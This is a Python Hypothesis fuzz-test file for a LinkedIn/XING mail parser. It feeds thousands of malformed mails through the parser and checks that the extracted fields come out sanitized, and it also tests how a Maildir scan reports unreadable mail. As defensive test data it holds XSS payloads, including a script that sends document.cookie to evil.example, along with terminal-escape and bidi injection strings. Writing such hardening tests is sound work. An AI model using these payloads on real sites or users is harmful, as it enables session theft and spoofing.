"""Hardening, bad mail: >= 10 000 generated malformed mails per run never crash the parser.

The property, for every generated mail: parse_mail returns a ParsedMail whose text fields
are clean (no control characters except "\\n" in the note, no bidi controls, valid UTF-8,
capped), or raises ParseError with a short reason - never anything else. The generators
cover broken MIME boundaries, unknown and lying charsets, invalid quoted-printable and
base64, missing or absurd headers (Date in year 99999, 10 000-character Subject, NUL bytes),
deeply nested multiparts, huge parts, HTML with scripts and entities, zero-width and bidi
characters in names and notes, and LinkedIn/XING mails with mutated bodies.

A scan over a Maildir with unreadable mails records each with its reason, goes on, and
reports them in the summary and the exit code (3).

CASES counts the mails actually tried; the last test checks the total (RELIABILITY.md
quotes it).
"""

from __future__ import annotations

import testpaths  # noqa: I001 (the tests' own paths)
import base64
import os
import quopri
import random
import time
import unicodedata
from collections import Counter
from datetime import datetime, timezone
from pathlib import Path

import mailfactory
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from screener.models import MailKind, ParsedMail, RawMail
from screener.parse import ParseError, parse_mail
from screener.sanitize import HEADLINE_MAX, NAME_MAX, NOTE_MAX, SUBJECT_MAX

MAIL = testpaths.DATA / "mail"
FIXTURES = sorted(MAIL.glob("*.eml"))
FIXTURE_BYTES = [p.read_bytes() for p in FIXTURES]
PLATFORM_FIXTURES = [p.read_bytes() for p in FIXTURES if p.name.startswith(("linkedin-invite", "xing-request",
                                                                            "linkedin-reminder", "xing-message"))]
SAMPLE = testpaths.ROOT / "screener" / "data" / "sample-inbox"

CASES: Counter[str] = Counter()
READ: Counter[str] = Counter()  # of those, read into a ParsedMail (not refused)
REQUESTS: Counter[str] = Counter()  # of those, read as a platform request or message
# A hang is a failure, not a slow run: no mail may take this long (the slowest seen is ~0.3 s on 2 loaded cores).
PER_MAIL_BOUND = 5.0
# max_examples per property; their sum is the promise in RELIABILITY.md (>= 10 000 per run)
BUDGET = {
    "single_part": 2400,
    "multipart": 1600,
    "html": 1200,
    "platform_mutations": 1800,
    "absurd_headers": 2000,
    "deep_nesting": 150,
    "raw_garbage": 850,
    "huge_parts": 20,
}
assert sum(BUDGET.values()) >= 10_000
# What share of each generator's mails must still be read (last run, 2026-12-01: single_part 0.95, multipart
# 0.99, html 0.99, platform_mutations 1.0 (all of them requests or messages), absurd_headers 0.82, deep_nesting
# 0.20 (depth <= 64), raw_garbage 0.73, huge_parts 1.0), with a margin for the draws.
READ_FLOORS: dict[str, float] = {"single_part": 0.8, "multipart": 0.85, "html": 0.9, "platform_mutations": 0.8,
                                 "absurd_headers": 0.6, "deep_nesting": 0.1, "raw_garbage": 0.5, "huge_parts": 0.5}
REQUEST_FLOORS: dict[str, float] = {"platform_mutations": 0.7}

HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
          HealthCheck.large_base_example]


def budget(name: str):
    return settings(max_examples=BUDGET[name], deadline=None, suppress_health_check=HEALTH, derandomize=False)


# -- the property --------------------------------------------------------------------------------------------

BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
ZERO_WIDTH_NAME = set("\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e")


def _clean_line(value: str, field: str, cap: int | None) -> None:
    assert isinstance(value, str), field
    value.encode("utf-8")  # strict: no lone surrogates (SQLite and JSON would choke on them)
    bad = [c for c in value if unicodedata.category(c) == "Cc" or c in BIDI]
    assert not bad, f"{field} carries control/bidi characters {bad!r}: {value[:120]!r}"
    assert value == value.strip() or not value.strip(), f"{field} not trimmed: {value[:80]!r}"
    if cap is not None:
        assert len(value) <= cap, f"{field} longer than {cap}: {len(value)}"


def check_parsed(p: ParsedMail) -> None:
    assert isinstance(p, ParsedMail) and isinstance(p.kind, MailKind)
    for field, cap in (("sender_name", NAME_MAX), ("sender_headline", HEADLINE_MAX), ("subject", SUBJECT_MAX),
                       ("recipient_name", NAME_MAX), ("profile_url", 2000), ("message_id", 1000), ("layout", None)):
        _clean_line(getattr(p, field), field, cap)
    assert not ZERO_WIDTH_NAME & set(p.sender_name), repr(p.sender_name)
    assert p.message_id.startswith("<") and p.message_id.endswith(">") and " " not in p.message_id
    note = p.note
    assert isinstance(note, str)
    note.encode("utf-8")
    bad = [c for c in note if (unicodedata.category(c) == "Cc" and c != "\n") or c in BIDI]
    assert not bad, f"note carries control/bidi characters {bad!r}: {note[:120]!r}"
    assert len(note) <= NOTE_MAX
    assert p.received is None or (isinstance(p.received, datetime) and p.received.tzinfo is not None)
    if not p.kind.is_request and not p.kind.is_message:
        assert not p.sender_name and not note


def tried(name: str, data: bytes, internaldate: datetime | None = None) -> ParsedMail | None:
    """The contract for any bytes: a clean ParsedMail, or ParseError with a short reason."""
    CASES[name] += 1
    raw = RawMail(source="hypothesis", key=name, data=data, size=len(data), internaldate=internaldate)
    start = time.monotonic()
    try:
        parsed = parse_mail(raw)
    except ParseError as exc:
        reason = str(exc)
        assert reason and len(reason) < 200 and "\n" not in reason
        return None
    finally:
        took = time.monotonic() - start
        assert took < PER_MAIL_BOUND, f"{name}: one mail took {took:.1f} s (a stall)"
    check_parsed(parsed)
    READ[name] += 1
    REQUESTS[name] += parsed.kind.is_request or parsed.kind.is_message
    return parsed


def held(outcome: ParsedMail | None) -> bool:
    """What a property asserts visibly: refused (None) or parsed with the identity every mail gets."""
    return outcome is None or (outcome.message_id.startswith("<") and outcome.message_id.endswith(">"))


# -- building blocks -------------------------------------------------------------------------------------------
#
# Each property draws one seed (plus a few cheap choices) from Hypothesis and builds the mail with a
# random.Random seeded from it. Drawing every byte through Hypothesis cost ~15 ms per mail; this way ten
# thousand mails fit into well under a minute, and a failure still names the seed that replays it.

HOSTILE_FRAGMENTS = [
    "\x1b[2J", "\x1b[31m", "\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x1b\\", "\x1b]8;;\x1b\\",
    "\x1bP+q\x1b\\", "\x9b31m", "\x1b", "\r", "\x08", "\x07", "\x00", "\x7f", "\x85", "\x0b", "\x0c", "\t",
    "\u202e", "\u202d", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u2028", "\u2029",
    "[bold red]x[/]", "[link=https://evil.example]click[/link]", "<script>alert(1)</script>", "&amp;", "&#0;",
    "&#x110000;", "&#xD800;", "&nbsp;", "\U0001F600", "e\u0301", "\uFFFD", "\ud800", "\udcff",
]
WORDS = ["Hi", "Jana", "Grüße", "aus", "Köln", "I", "enjoyed", "your", "talk", "on", "mail", "filters", "Max",
         "Muster", "CTO", "at", "Example", "GmbH", "View profile:", "https://www.linkedin.com/in/max-muster",
         "=> https://www.xing.com/m/abc", "Accept:", "Lukas", "möchte", "sich", "mit", "Dir", "vernetzen", "„", "“",
         "—", "ß", "日本", "مرحبا", "עברית"]
RANDOM_CHARS = "abcdefghijklmnopqrstuvwxyzäöüßÄÖÜ ,.;:!?-_'\"()[]{}<>/\\@#%&*=+~^`|0123456789"


def rand_text(rng: random.Random, n: int | None = None, *, one_line: bool = False) -> str:
    """n fragments: words, hostile sequences, random characters (any code point, surrogates included)."""
    n = rng.randint(0, 14 if one_line else 60) if n is None else n
    out = []
    for _ in range(n):
        kind = rng.random()
        if kind < 0.35:
            out.append(rng.choice(WORDS))
        elif kind < 0.65:
            out.append(rng.choice(HOSTILE_FRAGMENTS))
        elif kind < 0.85:
            out.append("".join(rng.choice(RANDOM_CHARS) for _ in range(rng.randint(1, 8))))
        elif kind < 0.95:
            out.append("".join(chr(rng.randint(0, 0x2FFFF)) for _ in range(rng.randint(1, 4))))
        else:
            out.append(rng.choice([" ", "\n", "\n\n", "\r\n"]))
        if rng.random() < 0.5:
            out.append(" ")
    text = "".join(out)
    return text.replace("\n", " ").replace("\r", " ") if one_line and rng.random() < 0.5 else text


seeds = st.integers(0, 2**64 - 1)

# Charset labels seen in the wild (the mail-tool issue survey in the project research notes, §5.1) plus plain nonsense.
CHARSET_LABELS = ["utf-8", "UTF-8", "us-ascii", "iso-8859-1", "latin-1", "windows-1252", "cp1252", "utf-16",
                  "utf-16-le", "utf-32", "utf-7", "unicode-1-1-utf-7", "x-unknown", "unknown", "uft-8",
                  "utf-8  euao6y69zh2w", "", "1", "iso-8859-8-i", "windows-874", "cp-850", "koi8-r", "gb2312",
                  "shift_jis", "euc-kr", "big5", "x-mac-roman", '"utf-8"', "utf-8\x00evil", "ascii; format=flowed",
                  "a" * 300, "rot13", "base64", "idna", "punycode", "undefined", "x-user-defined", "hz"]
# What the bytes really are (often not what the label says).
REAL_ENCODINGS = ["utf-8", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32", "utf-7", "koi8-r",
                  "shift_jis", "utf-8-surrogatepass"]
CTES = ["", "7bit", "8bit", "binary", "base64", "quoted-printable", "BASE64", "Quoted-Printable", "x-uuencode",
        "uuencode", "x-garbage", "base64; junk", "quoted-printable\x00"]


def encode_text(text: str, real: str) -> bytes:
    if real == "utf-8-surrogatepass":
        return text.encode("utf-8", "surrogatepass")
    return text.encode(real, "replace") if real != "utf-7" else text.encode("utf-7", "surrogatepass")


def apply_cte(body: bytes, cte: str, corrupt: int) -> bytes:
    name = cte.lower().split(";")[0].strip("\x00")
    if name == "base64":
        out = base64.encodebytes(body)
        if corrupt == 1:
            out = out.replace(b"A", b"!", 3)[:-3]  # invalid alphabet, cut padding
        elif corrupt == 2:
            out = b"!!!not base64!!!\n" + out[1:]
        elif corrupt == 3:
            out = out[: len(out) // 2]  # truncated mid-quantum
        return out
    if name == "quoted-printable":
        out = quopri.encodestring(body)
        if corrupt == 1:
            out += b"=ZZ=\n=" + b"=E" + b"=\r\n" * 3
        elif corrupt == 2:
            out = out.replace(b"=", b"=G", 5)
        elif corrupt == 3:
            out = out.rstrip() + b"="
        return out
    return body


def header_value(rng: random.Random, text: str) -> bytes:
    """A header value: plain, raw 8-bit, RFC 2047 with a (maybe bogus) charset, or broken encoded-words."""
    mode = rng.randint(0, 4)
    if mode == 0:
        return text.encode("utf-8", "surrogatepass")
    if mode == 1:
        return text.encode("latin-1", "replace")
    label = rng.choice(CHARSET_LABELS + ["utf-8"] * 4)
    if mode == 2:
        payload = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
        return f"=?{label}?B?{payload}?=".encode("ascii", "replace")
    if mode == 3:
        payload = quopri.encodestring(text.encode("utf-8", "surrogatepass"), header=True).decode("ascii", "replace")
        return f"=?{label}?Q?{payload}?=".encode("ascii", "replace")
    broken = rng.choice(["=?utf-8?B?////?=", "=?utf-8?Q?=ZZ?=", "=?x-bogus?q?x?=", "=?utf-8?X?abc?=", "=?",
                         "=?utf-8?B?", "?=", "=?utf-8*de?Q?J=FCrgen?=", "=?utf-8?B?" + "A" * 999])
    return broken.encode() + b" " + text.encode("utf-8", "replace")


FROMS = ["invitations@linkedin.com", "messages-noreply@linkedin.com", "mailrobot@mail.xing.com", "xing.com",
         "news@shop.example", "invitations@linkedin.com.evil.example", "", "<<<>>>@@@", "@", "a@", "@linkedin.com",
         "invitations@LINKEDIN.COM.", "x@xing.com"]
DATES = ["Mon, 01 Jan 2024 00:00:00 +0000", "Fri, 31 Dec 99999 23:59:59 +0000", "Tue, 32 Feb 2024 25:61:61 +9999",
         "yesterday", "", "0", "Mon, 01 Jan 0000 00:00:00 +0000", "Thu, 01 Jan 1970 00:00:00 -2400",
         "Sat, 01 Jan 10000 00:00:00 +0000", "1" * 500, "Mon, 01 Jan 2024 00:00:00", "Mon, 1 Jan 24 0:0:0 GMT",
         "\x00\x00", "Mon, 01 Jan 2024 00:00:00 +0000 (CET)\x1b[2J"]
SUBJECTS = ["I want to connect", "Kontaktanfrage von Max", "Jana, please add me to your LinkedIn network",
            "S" * 10_000]


def headers(rng: random.Random, *, content_type: bytes | None = None, cte: str | None = None) -> bytes:
    lines: list[bytes] = []
    sender = rng.choice(FROMS)
    if rng.randint(0, 9):
        lines.append(b"From: " + header_value(rng, rand_text(rng, one_line=True)) + b" <" + sender.encode() + b">")
    if rng.randint(0, 9):
        subject = rand_text(rng, one_line=True) if rng.random() < 0.6 else rng.choice(SUBJECTS)
        lines.append(b"Subject: " + header_value(rng, subject))
    if rng.randint(0, 3):
        lines.append(b"Date: " + rng.choice(DATES).encode("latin-1"))
    mid = rng.choice(["<ok@x>", "", "no-brackets", "<>", "< spaced id >", "<" + "m" * 2000 + ">", "<a@b> <c@d>",
                      "\x00<nul@x>", None])
    if mid is not None:
        lines.append(b"Message-ID: " + mid.encode("latin-1"))
    if rng.random() < 0.5:
        lines.append(b"X-LinkedIn-Class: " + rng.choice([b"INVITE-MBR", b"INVITE-REMINDER", b"MSG", b"\x00"]))
    if content_type is not None:
        lines.append(b"Content-Type: " + content_type)
    if cte:
        lines.append(b"Content-Transfer-Encoding: " + cte.encode("latin-1"))
    rng.shuffle(lines)
    return b"\n".join(lines)


def single_part_mail(rng: random.Random, subtype: str = "plain", body_text: str | None = None) -> bytes:
    label = rng.choice(CHARSET_LABELS)
    cte = rng.choice(CTES)
    text = body_text if body_text is not None else rand_text(rng)
    body = apply_cte(encode_text(text, rng.choice(REAL_ENCODINGS)), cte, rng.randint(0, 3))
    ct = f'text/{subtype}; charset="{label}"'.encode("latin-1", "replace")
    if rng.randint(0, 5) == 0:
        ct = rng.choice([b"text/plain; charset", b"text/plain;;;charset==", b"garbage", b"",
                         b"text/plain; charset*=utf-8''%FF%FE", b"text/plain; charset=\"\\\"\""])
    sep = rng.choice([b"\n\n", b"\r\n\r\n", b"\n", b"\n \n"])
    return headers(rng, content_type=ct, cte=cte) + sep + body


# -- the properties --------------------------------------------------------------------------------------------


@budget("single_part")
@given(seeds)
def test_single_part_with_lying_charsets_and_broken_encodings(seed):
    assert held(tried("single_part", single_part_mail(random.Random(seed))))


def leaf(rng: random.Random) -> tuple[bytes, bytes]:
    subtype = rng.choice(["plain", "html", "plain", "calendar", "x-unknown"])
    cte = rng.choice(CTES)
    text = rand_text(rng)
    if subtype == "html":
        text = f"<html><body><p>{text}</p><script>alert(1)</script></body></html>"
    body = apply_cte(encode_text(text, rng.choice(REAL_ENCODINGS)), cte, rng.randint(0, 3))
    head = f'Content-Type: text/{subtype}; charset="{rng.choice(CHARSET_LABELS)}"\n'.encode("latin-1", "replace")
    if cte:
        head += f"Content-Transfer-Encoding: {cte}\n".encode("latin-1")
    if rng.randint(0, 4) == 0:
        head += b"Content-Disposition: attachment; filename=\"\x1b[2J.txt\"\n"
    if rng.randint(0, 6) == 0:
        head = b""  # a part without headers
    return head, body


def part(rng: random.Random, depth: int = 0) -> tuple[bytes, bytes]:
    """A leaf, or a multipart of 0-4 parts with a broken boundary now and then (closing line missing,
    declared and used boundary differ, no boundary parameter, odd characters in it)."""
    if depth >= 4 or rng.random() < 0.45:
        return leaf(rng)
    children = [part(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    boundary = rng.choice(["b1", "=_boundary", "a", "with space", '"quoted"', "", "x" * 80, "--", "b\x00", "ÄÖÜ"])
    declared = boundary if rng.randint(0, 4) else rng.choice(["other", "", "b1"])
    subtype = rng.choice(["mixed", "alternative", "related", "digest", "x-weird"])
    head = f'Content-Type: multipart/{subtype}; boundary="{declared}"\n'.encode("utf-8", "replace")
    if rng.randint(0, 8) == 0:
        head = f"Content-Type: multipart/{subtype}\n".encode()  # no boundary at all
    delim = f"--{boundary}".encode("utf-8", "replace")
    body = rng.choice([b"", b"preamble\n", b"--" * 30 + b"\n"])
    for h, b in children:
        body += delim + b"\n" + h + b"\n" + b + b"\n"
    ending = rng.randint(0, 3)
    if ending == 0:
        body += delim + b"--\n"
    elif ending == 1:
        body += delim + b"--\nepilogue " + delim + b"\n"
    elif ending == 2:
        body += delim  # closing delimiter cut off
    return head, body  # ending 3: never closed


@budget("multipart")
@given(seeds)
def test_multipart_with_broken_boundaries(seed):
    rng = random.Random(seed)
    head, body = part(rng)
    assert held(tried("multipart", headers(rng) + b"\nMIME-Version: 1.0\n" + head + b"\n" + body))


HTML_BITS = ["<script>document.location='https://evil.example/'+document.cookie</script>", "<script >x</script >",
             "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<style>*{display:none}</style>", "<!-- comment -->",
             "<!--", "<![CDATA[ x ]]>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
             "<iframe src=https://evil.example>", "&lt;script&gt;", "&amp;amp;", "&#27;[2J", "&#x1b;]0;t&#7;",
             "&#8238;", "&#x202E;", "&#0;", "&#x110000;", "&#xD800;", "&#99999999999;", "&nbsp;&shy;&zwj;",
             "&bogus;", "&", "<table><tr><td>", "</td></tr></table>", "<br>", "<p>", "</p>", "<div>" * 50,
             "</div>" * 50, "<b>Max Muster</b>", "<h3>", "<<>>", "<a href=\"https://www.linkedin.com/comm/in/x\">",
             "</a>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=//evil.example/>",
             "<svg onload=alert(1)>", "<math><mi>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
             "<template>x</template>", "\x00", "<x y='", '<td id="qatest-hero-name">', '<p class="qatest-hero-1">']


@budget("html")
@given(seeds)
def test_html_with_scripts_entities_and_broken_markup(seed):
    rng = random.Random(seed)
    bits = [rng.choice(HTML_BITS) if rng.random() < 0.6 else rand_text(rng, one_line=True)
            for _ in range(rng.randint(0, 40))]
    html = "".join(bits)
    if rng.random() < 0.5:
        html = f"<html><head><title>{rand_text(rng, one_line=True)}</title></head><body>{html}</body></html>"
    assert held(tried("html", single_part_mail(rng, "html", html)))


# LinkedIn and XING mails from the fixtures with mutated bodies: lines dropped, doubled, swapped, or
# replaced/extended with hostile text, header bytes flipped, the message cut.


@budget("platform_mutations")
@given(st.sampled_from(PLATFORM_FIXTURES), seeds)
def test_linkedin_and_xing_mails_with_mutated_bodies(original, seed):
    rng = random.Random(seed)
    head, _, body = original.partition(b"\n\n")
    lines = body.split(b"\n")
    for _ in range(rng.randint(1, 6)):
        op = rng.randint(0, 6)
        i = rng.randint(0, max(0, len(lines) - 1))
        hostile = rand_text(rng, one_line=True).encode(rng.choice(["utf-8", "latin-1"]), "replace")
        if op == 0 and lines:
            del lines[i]
        elif op == 1 and lines:
            lines.insert(i, lines[i])
        elif op == 2:
            lines.insert(i, hostile)
        elif op == 3 and lines:
            lines[i] = lines[i] + hostile
        elif op == 4 and len(lines) > 1:
            j = rng.randint(0, len(lines) - 1)
            lines[i], lines[j] = lines[j], lines[i]
        elif op == 5:
            lines.insert(i, rng.choice([b"=", b"=ZZ", b"--", b"\x00" * 10, b"=E2=80=AE", b"=1B[2J",
                                        b"Content-Type: text/html", b".....", b"-" * 40]))
        else:
            lines = lines[: max(1, i)]
    if rng.randint(0, 4) == 0:
        head = head.replace(b"charset=\"utf-8\"", rng.choice(
            [b"charset=\"x-unknown\"", b"charset=utf-16", b"charset=\"\"", b"charset=us-ascii"]))
    if rng.randint(0, 5) == 0:
        head = head.replace(b"quoted-printable", b"base64")
    assert held(tried("platform_mutations", head + b"\n\n" + b"\n".join(lines)))
    # the control: unmutated, the same fixture reads as a platform request or message (so a refusal above is
    # the mutation's doing, not a parser that refuses everything)
    assert _reads_as_platform_mail(original)


_CONTROL: dict[int, bool] = {}


def _reads_as_platform_mail(data: bytes) -> bool:
    key = hash(data)
    if key not in _CONTROL:
        parsed = parse_mail(RawMail(source="control", key="original", data=data, size=len(data)))
        _CONTROL[key] = parsed.kind.is_request or parsed.kind.is_message
    return _CONTROL[key]


HEADER_NAMES = ["From", "Subject", "Date", "Message-ID", "Content-Type", "To", "Sender", "Reply-To",
                "X-LinkedIn-Class", "Content-Transfer-Encoding", "MIME-Version", "Received", "From ", " From",
                "Fr\x00om", "", ":", "X-" + "h" * 300]
HEADER_VALUES = DATES + FROMS + ["multipart/mixed", "text/html; charset=utf-7", "base64", "=?utf-8?B?////?=",
                                 "\x00" * 50, "a\n\tfolded\n continued", "=?x?q?" + "=00" * 200 + "?=", "Z" * 10_000]


@budget("absurd_headers")
@given(seeds, st.sampled_from([None, datetime(2024, 1, 1), datetime(1, 1, 1, tzinfo=timezone.utc)]))
def test_missing_and_absurd_headers(seed, internaldate):
    rng = random.Random(seed)
    pieces = []
    for _ in range(rng.randint(0, 25)):
        value = rng.choice(HEADER_VALUES) if rng.random() < 0.6 else rand_text(rng, one_line=True)
        pieces.append(f"{rng.choice(HEADER_NAMES)}: {value}".encode("utf-8", "surrogatepass"))
    body = rand_text(rng).encode("utf-8", "surrogatepass")
    sep = rng.choice([b"\n", b"\r\n", b"\r", b"\x00"])
    assert held(tried("absurd_headers", sep.join(pieces) + sep * 2 + body, internaldate))


@budget("deep_nesting")
@given(st.integers(2, 400), st.booleans(), st.booleans())
def test_deeply_nested_multiparts(depth, same_boundary, closed):
    head = b"From: Max <invitations@linkedin.com>\nSubject: I want to connect\n"
    parts = [b"Content-Type: multipart/mixed; boundary=\"%s\"\n\n" % (b"a" if same_boundary else b"b%d" % i)
             for i in range(depth)]
    body = b""
    for i, part in enumerate(parts):
        body += (b"--a\n" if same_boundary else b"--b%d\n" % (i - 1) if i else b"") + part
    body += b"--a\nContent-Type: text/plain\n\nHi Jana,\n\ndeep\n"
    if closed:
        for i in reversed(range(depth)):
            body += b"--a--\n" if same_boundary else b"--b%d--\n" % i
    parsed = tried("deep_nesting", head + body)
    if depth > 64:
        assert parsed is None  # refused up front: the stdlib parser is quadratic in nesting


@budget("raw_garbage")
@given(st.binary(max_size=3000), st.sampled_from([b"", b"From: x@linkedin.com\n", b"Subject: \x00\n\n",
                                                 b"From: invitations@linkedin.com\nContent-Type: multipart/mixed; "
                                                 b"boundary=x\n\n--x\n"]))
def test_raw_garbage_behind_plausible_headers(data, prefix):
    assert held(tried("raw_garbage", prefix + data))


@budget("huge_parts")
@given(st.integers(200_000, 1_500_000), st.sampled_from(["plain", "html", "base64", "lines"]), st.data())
def test_huge_parts(size, shape, data):
    filler = data.draw(st.sampled_from(["A", "Grüße ", "\u202e\x1b[2J", "<div>", "&amp;", "word\n"]))
    text = (filler * (size // len(filler) + 1))[:size]
    head = b"From: Big <invitations@linkedin.com>\nSubject: I want to connect\nMIME-Version: 1.0\n"
    if shape == "plain":
        mail = head + b"Content-Type: text/plain; charset=utf-8\n\nHi Jana,\n\n" + text.encode()
    elif shape == "html":
        mail = head + b"Content-Type: text/html; charset=utf-8\n\n<p>" + text.encode() + b"</p>"
    elif shape == "base64":
        mail = (head + b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
                + base64.encodebytes(text.encode()))
    else:
        mail = head + b"Content-Type: text/plain\n\n" + ("x\n" * (size // 2)).encode()
    assert held(tried("huge_parts", mail))


def test_mail_over_the_hard_size_cap_is_refused_with_a_reason():
    with pytest.raises(ParseError, match="too large"):
        parse_mail(RawMail("t", "k", b"From: a@linkedin.com\n\n" + b"x" * (26 * 1024 * 1024)))


def test_hostile_fixture_fields_are_clean_and_the_checker_can_fail():
    # the checker itself must reject what it is meant to find
    bad = ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>", sender_name="a\x1b[2Jb")
    with pytest.raises(AssertionError):
        check_parsed(bad)
    with pytest.raises(AssertionError):
        check_parsed(ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>",
                                note="ok\u202eok"))
    with pytest.raises(UnicodeEncodeError):
        check_parsed(ParsedMail(kind=MailKind.LINKEDIN_INVITATION, platform=None, message_id="<x>",
                                sender_headline="\ud800"))
    assert tried("fixtures", (MAIL / "linkedin-invite-hostile.eml").read_bytes()) is not None


def test_cases_tried_add_up_to_ten_thousand():
    """Runs last in this file: the figure RELIABILITY.md quotes. Skipped when only some tests were selected."""
    missing = [name for name in BUDGET if CASES[name] == 0]
    if missing:
        pytest.skip(f"not all generators ran in this session: {missing}")
    total = sum(CASES[name] for name in BUDGET)
    print(f"\nhardening: {total} generated mails tried: {dict(CASES)}")
    out = os.environ.get("SCREENER_HARDENING_FIGURES")
    if out:
        Path(out).write_text(f"{total}\n{dict(CASES)}\n")
    assert total >= 10_000, dict(CASES)
    # a parser that refused everything would pass every property above: most mails must still be read
    share = {name: READ[name] / CASES[name] for name in BUDGET}
    requests = {name: REQUESTS[name] / CASES[name] for name in BUDGET}
    print(f"hardening: read {share}, requests {requests}")
    for name, floor in READ_FLOORS.items():
        assert share[name] >= floor, (name, share[name], floor)
    for name, floor in REQUEST_FLOORS.items():
        assert requests[name] >= floor, (name, requests[name], floor)


# -- a scan over unreadable mail --------------------------------------------------------------------------------


def _invite(n: int) -> bytes:
    return mailfactory.linkedin_invite(
        name=f"Person Number{n}", message_id=f"<hardening-{n}@linkedin.example>", x_linkedin=False,
        date=f"Mon, {n:02d} Mar 2026 09:00:00 +0000", note=f"We met at the privacy meetup number {n}.",
        headline="Engineer at Example", profile_url=f"https://www.linkedin.com/comm/in/person-{n}")


UNREADABLE = {
    "1800000001.M1P1.empty:2,S": b"",
    "1800000002.M2P1.blank:2,S": b"\r\n\r\n   \n",
    "1800000003.M3P1.binary:2,S": bytes(range(256)) * 8,
    "1800000004.M4P1.noheaders:2,S": b"just some text without any header line at all\n",
}


def test_scan_records_every_unreadable_mail_and_goes_on(tmp_path, monkeypatch):
    from screener.cli.app import cli
    from screener.store.store import Store

    md = tmp_path / "md"
    for sub in ("cur", "new", "tmp"):
        (md / sub).mkdir(parents=True)
    # good and bad mails interleaved: the bad ones must not stop the ones after them
    for n in range(1, 6):
        (md / "cur" / f"17000000{n:02d}.M{n}P1.good:2,S").write_bytes(_invite(n))
        (md / "new" / f"19000000{n:02d}.M{n}P1.good").write_bytes(_invite(10 + n))
    for name, data in UNREADABLE.items():
        (md / "cur" / name).write_bytes(data)
    (md / "cur" / "1800000005.M5P1.dangling:2,S").symlink_to(tmp_path / "gone")  # listed, cannot be opened
    (md / "cur" / "1800000006.M6P1.adir:2,S").mkdir()  # a folder where a message should be: not a mail, ignored

    res = CliRunner().invoke(cli, ["scan", "--maildir", str(md)], catch_exceptions=False)
    assert res.exit_code == 3, res.output
    assert "10 new: " in res.stdout and "(15 mails read: " in res.stdout
    assert "5 skipped" in res.stdout and "5 errors" in res.stdout
    assert "Traceback" not in res.output and "internal error" not in res.output
    with Store(tmp_path / "home" / "screener.db") as s:
        assert s.count() == 10
        skipped = {row["source_key"]: row["reason"] for row in s.skipped()}
    assert set(skipped) == {k.split(":")[0] for k in UNREADABLE} | {"1800000005.M5P1.dangling"}
    assert all(reason.strip() for reason in skipped.values())
    assert skipped["1800000001.M1P1.empty"] == "unreadable: empty mail"
    assert "cannot read" in skipped["1800000005.M5P1.dangling"]

    again = CliRunner().invoke(cli, ["scan", "--maildir", str(md)], catch_exceptions=False)
    assert again.exit_code == 3 and "nothing new" in again.stdout and "10 already stored" in again.stdout
    with Store(tmp_path / "home" / "screener.db") as s:
        assert s.count() == 10 and len(s.skipped()) == 5  # recorded once, not once per scan


def test_pipeline_counts_unreadable_mail_in_the_report(tmp_path):
    from screener.guide import default_guide_dir, load_guide
    from screener.scan.pipeline import scan
    from screener.store.store import Store

    class ListSource:
        name = "list:test"

        def __init__(self, mails):
            self._mails = mails
            self.committed = []

        def mails(self):
            for i, data in enumerate(self._mails):
                yield RawMail(self.name, str(i), data, len(data))

        def commit(self, key):
            self.committed.append(key)

    src = ListSource([_invite(1), b"", bytes(range(256)), _invite(2), b"\x00" * 100])
    with Store(tmp_path / "s.db") as store:
        report = scan([src], store, load_guide(default_guide_dir()))
        assert (report.seen, report.requests_new, report.skipped, len(report.errors)) == (5, 2, 3, 3)
        assert all(e.startswith("list:test ") for e in report.errors)
        assert [r["source_key"] for r in store.skipped()] == ["1", "2", "4"]
    # every mail was handled, so an incremental source may move past each (none is re-fetched forever)
    assert src.committed == ["0", "1", "2", "3", "4"]
